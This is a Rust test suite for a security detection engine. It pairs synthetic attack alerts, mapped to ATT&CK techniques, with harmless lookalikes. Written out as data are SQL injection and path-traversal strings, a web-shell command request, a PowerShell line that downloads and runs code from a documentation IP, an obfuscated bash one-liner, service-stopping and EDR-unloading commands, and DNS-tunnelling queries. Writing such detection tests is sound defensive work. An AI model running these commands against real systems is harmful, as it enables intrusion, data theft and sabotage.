//! Tests of patterns over sign-ins, files, requests, queries and connections. Each kind has attacks and harmless twins.

use nightshift_alert::{Alert, Detail, DetailKind, Indicator, IndicatorKind, IndicatorRole};

use super::{strength, techniques, with};

/// Returns an alert with these values, each `name=value` on a line of its own. A name is a kind of detail or `file`,
/// `process`, `domain`, `ip` (the far end), `url`, `instance` (the source) or `principal` (the actor).
fn alert(fields: &str) -> Alert {
    let mut alert = with(&[]);
    for line in fields
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
    {
        let (name, value) = line.split_once('=').unwrap();
        let indicator = match name {
            "file" => Some((IndicatorKind::File, IndicatorRole::Related)),
            "process" => Some((IndicatorKind::Process, IndicatorRole::Related)),
            "domain" => Some((IndicatorKind::Domain, IndicatorRole::Remote)),
            "ip" => Some((IndicatorKind::Ip, IndicatorRole::Remote)),
            "instance" => Some((IndicatorKind::Instance, IndicatorRole::Actor)),
            "url" => Some((IndicatorKind::Url, IndicatorRole::Related)),
            "principal" => Some((IndicatorKind::Principal, IndicatorRole::Actor)),
            _ => None,
        };
        if let Some((kind, role)) = indicator {
            alert.indicators.push(Indicator::new(kind, value, role));
        } else {
            alert.details.push(Detail {
                kind: DetailKind::parse(name).unwrap(),
                value: value.to_owned(),
                about: None,
            });
        }
    }
    alert
}

fn assert_shown(attacks: &[(&str, &str)]) {
    let missed: Vec<String> = attacks
        .iter()
        .filter(|(technique, fields)| {
            let alert = alert(fields);
            !matches!(strength(&alert), "weak" | "strong")
                || !techniques(&alert).contains(technique)
        })
        .map(|(technique, fields)| {
            format!("{technique} {fields}: {:?}", techniques(&alert(fields)))
        })
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

fn assert_harmless(twins: &[&str]) {
    let wrong: Vec<String> = twins
        .iter()
        .filter(|fields| matches!(strength(&alert(fields)), "weak" | "strong"))
        .map(|fields| format!("{fields}: {:?}", techniques(&alert(fields))))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn second_factor_is_seen_however_its_name_is_joined() {
    assert_shown(&[
        (
            "T1621",
            "operation=user.authentication.auth_via_mfa\nauth_result=FAILURE\nevent_count=21",
        ),
        (
            "T1621",
            "logon_type=duo_push\nauth_result=denied\nevent_count=9",
        ),
        (
            "T1621",
            "logon_type=OKTA_VERIFY_PUSH\nauth_result=FAILURE\nauth_result=SUCCESS\nevent_count=34",
        ),
        (
            "T1621",
            "logon_type=PhoneAppNotification\nauth_result=timeout\nevent_count=12",
        ),
        (
            "T1621",
            "operation=user.mfa.okta_verify.deny_push\nauth_result=FAILURE",
        ),
        (
            "T1621",
            "operation=user.account.report_suspicious_activity_by_enduser\nauth_result=SUCCESS",
        ),
        (
            "T1621",
            "trait=denied by user 11 times\nlogon_type=password",
        ),
    ]);
    for fields in [
        "logon_type=OKTA_VERIFY_PUSH\nauth_result=FAILURE\nauth_result=SUCCESS\nevent_count=34",
        "logon_type=OKTA_VERIFY_PUSH\nauth_result=FAILURE\nevent_count=34",
        "trait=denied by user 11 times\nlogon_type=password",
    ] {
        let shown = techniques(&alert(fields));
        assert!(
            shown.iter().all(|one| *one == "T1621"),
            "{fields}: {shown:?}"
        );
    }
    assert_harmless(&[
        "logon_type=MFA push\nauth_result=approved\nevent_count=7",
        "logon_type=OKTA_VERIFY_PUSH\nauth_result=SUCCESS\nevent_count=14",
        "logon_type=MFA push\nauth_result=denied\nauth_result=approved\nevent_count=2",
    ]);
}

#[test]
fn spellings_of_one_country_are_one_country() {
    assert_harmless(&[
        "country=Germany\ncountry=DE\nauth_result=success",
        "country=USA\ncountry=United States\ncountry=us\nauth_result=success",
    ]);
    assert_shown(&[
        (
            "T1078.004",
            "country=Germany\ncountry=VN\nauth_result=success",
        ),
        (
            "T1078.004",
            "trait=distance 7400 km in 20 minutes\nauth_result=success",
        ),
    ]);
}

#[test]
fn replication_and_weak_tickets_are_seen_in_each_products_words() {
    assert_shown(&[
        (
            "T1003.006",
            "principal=CORP\\dana\npermission=Replicating Directory Changes All",
        ),
        (
            "T1003.006",
            "principal=CORP\\dana\noperation=DsGetNCChanges",
        ),
        (
            "T1003.006",
            "principal=CORP\\dana\noperation=IDL_DRSGetNCChanges",
        ),
        (
            "T1558.003",
            "logon_type=0x00000017\napplication=svc_sql\nevent_count=30",
        ),
        (
            "T1558.003",
            "trait=etype 23\napplication=MSSQLSvc/a\napplication=HTTP/b\napplication=CIFS/c",
        ),
    ]);
    assert_harmless(&[
        "principal=CORP\\DC03$\npermission=Replicating Directory Changes All",
        "logon_type=0x00000012\napplication=svc_sql\nevent_count=30",
        "logon_type=0x17\napplication=svc_sql\nevent_count=2",
    ]);
}

#[test]
fn replication_by_controllers_and_synchronisation_is_honest() {
    let by = |fields: &str| format!("{fields}\npermission=DS-Replication-Get-Changes-All");
    for honest in [
        "principal=CORP\\SRV-AD-07$\ntrait=source is a domain controller",
        "principal=CORP\\SRV-AD-07$\ngroup=Domain Controllers",
        "principal=CORP\\ROOTAD1$\ntrait=replication partner of DC02",
        "principal=corp.example\\NYC-AD2$\ntrait=SERVER_TRUST_ACCOUNT",
        "principal=CORP\\AD9$\ntrait=primaryGroupID=516",
        "principal=CORP\\MSOL_8f3a91c204de\ninstance=aadc-01",
        "principal=MSOL_8f3a91c204de@corp.example\ntrait=source is a domain controller",
        "principal=CORP\\AAD_1f2e3d4c5b6a",
        "principal=CORP\\svc-adsync$\ninstance=srv-sync-02",
    ] {
        assert_harmless(&[&by(honest)]);
    }
    for attack in [
        "principal=CORP\\WS-0142$",
        "principal=CORP\\SRV-FILE-07$\ntrait=source is not a domain controller",
        "principal=CORP\\DC03$\ntrait=source host is no domain controller",
        "principal=CORP\\DC03$\ninstance=ws-0142",
        "principal=CORP\\MSOL_8f3a91c204de\ninstance=DESKTOP-7HQ2ZR9",
        "principal=MSOL_8f3a91c204de@corp.example\ntrait=source runs Windows 11",
        "principal=CORP\\svc-backup\ntrait=source is a domain controller",
        "principal=CORP\\dana\ngroup=Domain Controllers",
    ] {
        assert_shown(&[("T1003.006", &by(attack))]);
    }
}

#[test]
fn known_way_out_and_phone_of_the_same_person_are_no_journey() {
    let places = |fields: &str| format!("country=DE\ncountry=NL\nprincipal=a.rossi\n{fields}");
    for honest in [
        "organisation=Corporate VPN egress Amsterdam\nauth_result=success",
        "trait=second address is a trusted named location\nauth_result=success",
        "trait=known proxy egress\nauth_result=success",
        "organisation=Vodafone GmbH\norganisation=T-Mobile Netherlands\ndevice=d-7f31\nlogon_type=FIDO2 security key\nauth_result=success",
        "organisation=Zscaler, Inc.\ndevice=d-7f31\nauth_result=passkey verified\nauth_result=success",
        "organisation=KPN Mobile\ntrait=same device id d-7f31 in both sign-ins\nauth_result=MFA satisfied by number matching\nauth_result=success",
    ] {
        assert_harmless(&[&places(honest)]);
        let far = honest.replace(
            "auth_result=success",
            "auth_result=success\ntrait=7400 km in 20 minutes",
        );
        assert_harmless(&[&far]);
    }
    for attack in [
        "auth_result=success",
        "organisation=M247 Europe SRL\ndevice=d-7f31\nlogon_type=FIDO2\nauth_result=success",
        "organisation=KPN Mobile\ndevice=d-7f31\ndevice=d-0c44\nlogon_type=FIDO2\nauth_result=success",
        "organisation=KPN Mobile\ntrait=new device d-0c44\nauth_result=MFA passed",
        "organisation=KPN Mobile\ntrait=same device\nauth_result=success",
        "organisation=KPN Mobile\ndevice=d-7f31\nauth_result=MFA satisfied by claim in the token",
        "organisation=KPN Mobile\ndevice=d-7f31\nlogon_type=password\nauth_result=success",
        "trait=not a known VPN egress\nauth_result=success",
        "trait=outside trusted locations\nauth_result=success",
    ] {
        assert_shown(&[("T1078.004", &places(attack))]);
    }
}

#[test]
fn program_that_copies_folders_reads_many_files() {
    for honest in [
        "process=OneDrive.exe\noperation=FileSyncDownloadedFull",
        "process=C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\noperation=FileSyncDownloadedFull",
        "user_agent=Microsoft SkyDriveSync 24.201.1006.0005 ship; Windows NT 10.0\noperation=FileDownloaded\napplication=OneDrive",
        "process=/Applications/Dropbox.app/Contents/MacOS/Dropbox\noperation=file read",
        "process=GoogleDriveFS.exe\napplication=Google Drive\noperation=download",
        "process=veeamagent\noperation=FileRead",
        "process=/usr/bin/restic\noperation=read_file",
        "user_agent=backup.amazonaws.com\noperation=GetObject",
        "application=Veeam Backup for Microsoft 365\noperation=FileDownloaded",
        "user_agent=rclone/v1.66.0\noperation=FileDownloaded\ntrait=user's own drive",
        "process=rclone.exe\noperation=FileRead\ncommand_line=rclone sync C:\\Users\\dana\\Documents onedrive-dana:Documents",
    ] {
        for count in [500, 9000] {
            assert_harmless(&[&format!("{honest}\nevent_count={count}")]);
        }
    }
    for attack in [
        "operation=FileDownloaded\napplication=OneDrive",
        "operation=FileDownloaded\nprocess=chrome.exe",
        "process=C:\\Users\\Public\\OneDrive.exe\noperation=FileRead",
        "user_agent=rclone/v1.66.0\noperation=GetObject",
        "user_agent=Microsoft SkyDriveSync 24.201\noperation=FileSyncDownloadedFull\ntrait=unmanaged device",
        "process=OneDrive.exe\noperation=FileSyncDownloadedFull\ntrait=device is not registered",
        "user_agent=python-requests/2.31\noperation=FileDownloaded",
    ] {
        assert_shown(&[("T1530", &format!("{attack}\nevent_count=900"))]);
    }
    let sent = "bytes=900 GB\ndirection=outbound\ndomain=vault.backup-vendor.example";
    assert_harmless(&[&format!(
        "process=C:\\Program Files\\Veeam\\veeamagent.exe\n{sent}"
    )]);
    assert_shown(&[
        ("T1048", &format!("process=winlogin.exe\n{sent}")),
        (
            "T1048",
            &format!("process=C:\\Users\\Public\\veeamagent.exe\n{sent}"),
        ),
    ]);
    let own = "process=rclone\ncommand_line=rclone sync /home/dana/papers gdrive:papers\ntrait=own account of dana";
    assert_harmless(&[own]);
    assert_shown(&[
        (
            "T1567.002",
            "process=rclone\ncommand_line=rclone copy /home/dana/papers gdrive:x",
        ),
        (
            "T1567.002",
            "command_line=rclone copy /srv/finance mega:x\ntrait=own account of dana",
        ),
    ]);
}

#[test]
fn second_ending_is_no_proof_of_encryption() {
    let twins = [
        "photo.jpg.xmp",
        "data.csv.gpg",
        "contract.pdf.p7m",
        "disk.vmdk.lck",
        "rows.csv.parquet",
        "logo.png.webp",
        "db.sql.lz4",
        "vm.vmdk.vbk",
        "scan.jpg.heic",
        "plan.docx.download",
        "a.jpg.original",
        "mail.zip.pgp",
        "orders.csv.processed",
        "orders.csv.done",
        "a.sql.sha256sum",
    ];
    for name in twins {
        assert_harmless(&[&format!("file=D:\\share\\{name}\nevent_count=700")]);
    }
    assert_harmless(&["file=/srv/app/secrets.yml.encrypted\nprocess=sops"]);
    assert_shown(&[
        ("T1486", "file=D:\\share\\plan.encrypted\nevent_count=300"),
        ("T1486", "file=D:\\share\\plan.xlsx.akira\nevent_count=700"),
        ("T1486", "file=D:\\share\\plan.docx.play\nevent_count=700"),
        ("T1486", "file=D:\\share\\plan.docx.k3x9w\nevent_count=700"),
    ]);
}

#[test]
fn name_of_a_note_counts_with_its_number_or_writer() {
    assert_harmless(&[
        "file=C:\\it\\How to restore from backup.txt\nprocess=notepad.exe",
        "file=C:\\docs\\help_recover_password.html\nprocess=hugo",
        "file=C:\\it\\README-restore.md\nprocess=git",
        "file=C:\\it\\BitLocker Recovery instructions.txt\nprocess=notepad.exe",
        "file=C:\\build\\node_modules\\x\\README.txt\nevent_count=900\nprocess=npm",
    ]);
    assert_shown(&[
        (
            "T1486",
            "file=D:\\share\\HOW_TO_BACK_FILES.html\nprocess=x.exe",
        ),
        ("T1486", "file=D:\\share\\RECOVER-FILES.txt\nprocess=x.exe"),
    ]);
    for fields in [
        "file=C:\\Users\\Public\\Desktop\\!README!.txt\nevent_count=900\nprocess=x.exe",
        "file=D:\\share\\HOW_TO_DECRYPT_FILES.txt\nevent_count=410",
        "file=D:\\share\\README_FOR_DECRYPT.txt\nprocess=C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe",
    ] {
        assert_eq!(strength(&alert(fields)), "strong", "{fields}");
    }
}

#[test]
fn update_of_a_web_application_is_no_web_shell() {
    assert_harmless(&[
        "file_written=/var/www/html/wp-content/plugins/forms/forms.php\nprocess=php-fpm",
        "file_written=/var/www/html/wp-includes/version.php\nprocess=php-fpm",
        "file_written=/var/www/html/sites/default/files/php/twig/a_page.html.twig/x.php\nprocess=apache2",
        "command_line=sh -c \"df -h /srv\"\nparent_process=apache2\nprocess=sh",
        "command_line=bash -c \"curl -sf http://localhost:8080/health\"\nparent_process=java\nprocess=bash",
    ]);
    assert_shown(&[
        (
            "T1505.003",
            "file_written=/var/www/html/wp-content/uploads/2026/11/a.php\nprocess=php-fpm",
        ),
        (
            "T1505.003",
            "file_written=C:\\inetpub\\wwwroot\\aspnet_client\\e.aspx\nprocess=w3wp.exe",
        ),
        (
            "T1505.003",
            "file_written=/var/www/html/about2.php\nprocess=apache2",
        ),
        (
            "T1505.003",
            "parent_process=/usr/sbin/httpd -DFOREGROUND\nprocess=sh\ncommand_line=sh -c whoami;id;uname -a",
        ),
        (
            "T1505.003",
            "parent_process=nginx\nprocess=sh\ncommand_line=sh -c /tmp/.x/a",
        ),
        ("T1505.003", "http_request=/uploads/a.php?cmd=id;uname+-a"),
    ]);
}

#[test]
fn regular_calls_to_our_own_and_known_names_are_no_beacon() {
    let regular = |far: &str| format!("{far}\ninterval_secs=60\nevent_count=500");
    for far in [
        "domain=monitoring.corp.example\nip=10.0.0.4",
        "domain=zabbix.corp.local",
        "ip=fd00::12",
        "ip=100.64.0.9",
        "domain=metrics.prod.svc.cluster.local",
        "domain=time.windows.com",
        "domain=api.github.com",
        "domain=slack.com",
        "domain=printer.local",
        "domain=corp.okta.com",
        "domain=build-server",
    ] {
        assert_harmless(&[&regular(far)]);
    }
    for far in [
        "domain=cdn.bad.example",
        "ip=203.0.113.7",
        "url=https://203.0.113.7/api/v1/poll",
        "ip=2001:db8::7",
        "domain=cdn.bad.example\nip=10.0.0.3\nremote_port=3128",
    ] {
        assert_shown(&[("T1071.001", &regular(far))]);
    }
}

#[test]
fn long_names_of_services_carry_no_data() {
    assert_harmless(&[
        "dns_query=internal-payments-service-production-blue.svc.cluster.local\nevent_count=3000",
        "dns_query=7f3c9a1e-5b2d-4c8e-9f0a-1b2c3d4e5f60._msdcs.corp.example\nevent_count=400",
        "dns_query=_acme-challenge.www.corp.example\nprotocol=TXT\nevent_count=300",
        "dns_query=prod-eu-west-1-frontend-assets-cdn-01.edge.corp.example\nevent_count=400",
    ]);
    assert_shown(&[
        (
            "T1071.004",
            "dns_query=4a6f686e2053656372657420446174612031323334.x.bad.example\nevent_count=900",
        ),
        (
            "T1071.004",
            "dns_query=c2VjcmV0LWRhdGEtaGVyZS0xMjM0NTY3ODkwYWJjZGVm.x.bad.example\nevent_count=900",
        ),
        (
            "T1071.004",
            "dns_query=a1b2c3d4e5.t.bad.example\ndns_query=b2c3d4e5f6.t.bad.example\ndns_query=c3d4e5f607.t.bad.example\nevent_count=9000",
        ),
    ]);
}

#[test]
fn link_of_a_known_owner_is_no_false_page() {
    assert_harmless(&[
        "url=https://go.corp.example/unsubscribe?email=dana@corp.example\nmail_subject=News",
        "url=https://portal.corp.example/login?user=dana@corp.example\nmail_subject=Timesheet",
        "url=https://bit.ly/3Abc\nmail_subject=Webinar",
        "url=https://amazon.de/gp/css/order-history?email=dana@corp.example\nmail_subject=Order",
        "url=https://blog.google/products/\nmail_subject=News",
        "url=https://microsoft.github.io/docs\nmail_subject=Docs",
    ]);
    assert_shown(&[
        (
            "T1566.002",
            "url=https://micros0ft-login.example/auth\nmail_subject=Invoice",
        ),
        (
            "T1566.002",
            "url=https://docs.google.com.share-file.example/d/1\nmail_subject=Shared",
        ),
    ]);
}

#[test]
fn words_of_sql_in_a_search_are_no_injection() {
    assert_harmless(&[
        "http_request=GET /p?note=done; update later",
        "http_request=GET /p?t='90s'#top",
        "http_request=GET /q?text=sleep(well)+tonight",
        "http_request=GET /docs/sql?topic=information_schema",
        "http_request=GET /static/../../img/logo.png",
    ]);
    assert_shown(&[
        ("T1190", "http_request=GET /p?id=1;DROP TABLE users"),
        ("T1190", "http_request=GET /p?id=1;UPDATE users SET admin=1"),
        ("T1190", "http_request=POST /login user=admin'#&pw=x"),
        ("T1190", "http_request=GET /p?id=1 AND SLEEP(5)"),
        (
            "T1190",
            "http_request=GET /p?id=(select count(*) from information_schema.tables)",
        ),
        ("T1190", "http_request=GET /static/../../etc/passwd"),
    ]);
}

#[test]
fn tools_of_administrators_are_told_from_attacks() {
    assert_harmless(&[
        "parent_process=wsmprovhost.exe\nprocess=powershell.exe\ncommand_line=PowerShell -NoProfile -EncodedCommand [redacted:secret]\ndecoded_command=Get-Service",
        "process=schtasks.exe\ncommand_line=schtasks /create /tn Rep /tr \"powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\report.ps1\" /sc daily",
        "process=crontab\npersistence=0 3 * * * curl -s https://intranet.corp.example/hook -o /tmp/hook.log",
        "process=crontab\npersistence=0 3 * * * cd /var/tmp/backup && ./run.sh",
        "process=net.exe\ncommand_line=net stop MSSQLSERVER",
        "process=powershell.exe\ncommand_line=Enter-PSSession -ComputerName srv-9",
        "operation=FileAccessed\nevent_count=240",
        "operation=FileSyncDownloadedFull\nevent_count=140\nprocess=OneDrive.exe",
    ]);
    assert_shown(&[
        (
            "T1021.006",
            "parent_process=wsmprovhost.exe\nprocess=powershell.exe\ncommand_line=powershell -enc [redacted:secret]\ndecoded_command=iex (iwr http://203.0.113.9/a)",
        ),
        (
            "T1489",
            "process=net.exe\ncommand_line=net stop MSSQLSERVER /y",
        ),
        (
            "T1489",
            "command_line=net stop veeam /y && net stop MSSQLSERVER /y",
        ),
        (
            "T1053.003",
            "process=crontab\npersistence=@reboot /dev/shm/.kd",
        ),
        (
            "T1053.003",
            "process=crontab\npersistence=*/5 * * * * /tmp/kd -q",
        ),
        ("T1530", "operation=FileDownloaded\nevent_count=900"),
        ("T1530", "application=Google Drive\nevent_count=12430"),
        (
            "T1021.002",
            "parent_process=services.exe\nprocess=cmd.exe\ncommand_line=%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat",
        ),
        (
            "T1543.003",
            "process=services.exe\npersistence=UpdateSvc\ncommand_line=C:\\ProgramData\\u.exe",
        ),
        (
            "T1547.001",
            "process=winword.exe\nfile=C:\\Users\\j\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk",
        ),
        (
            "T1562.001",
            "command_line=sentinelctl.exe unload -a -H -s -m",
        ),
        (
            "T1140",
            "command_line=bash -c {echo,Y3VybA==}|{base64,-d}|{bash,-i}",
        ),
        (
            "T1059.006",
            "command_line=python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0'))\"",
        ),
        (
            "T1021.004",
            "command_line=for h in $(cat hosts); do ssh -o StrictHostKeyChecking=no root@$h id; done",
        ),
    ]);
}
